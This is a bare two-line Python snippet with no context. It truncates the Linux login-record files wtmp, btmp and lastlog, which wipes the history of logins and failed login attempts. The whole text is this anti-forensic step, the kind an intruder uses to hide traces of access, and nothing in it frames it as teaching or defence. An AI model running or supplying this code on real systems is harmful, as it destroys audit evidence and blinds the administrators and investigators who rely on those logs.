for f in ("/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"):
    open(f, "w").close()
